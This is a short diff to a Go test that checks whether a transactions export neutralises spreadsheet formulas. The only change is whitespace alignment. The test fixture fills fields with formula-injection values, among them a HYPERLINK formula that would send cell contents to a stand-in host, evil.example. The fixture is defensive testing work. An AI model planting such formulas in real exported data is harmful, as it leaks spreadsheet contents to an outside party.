@@ -30,7 +30,7 @@ func TestTransactionsExportNeutralisesFormulas(t *testing.T) {
 		TransactionID: "=tx", Kind: "win", WinType: "freebet", Operator: "acme", GameID: "+crash", Currency: "@BRL",
 		PlayerID: "=1+1", Token: "secret-token", RoundID: v.RoundID, BetID: "\t=bet", FreebetID: &freebet, Amount: 1200,
 		Reason: "\r=reason", Status: store.MovementExhausted, Attempts: 20, LastError: "@SUM(1)",
-		OperatorTxID: `=HYPERLINK("http://evil.example/?"&A1,"x")`,
+		OperatorTxID:  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
 		NextAttemptAt: store.MillisOf(now.Add(-time.Minute)), CreatedAt: store.MillisOf(now.Add(-time.Minute)),
 	}
 	if err := e.st.InsertMovement(ctx, &m); err != nil {
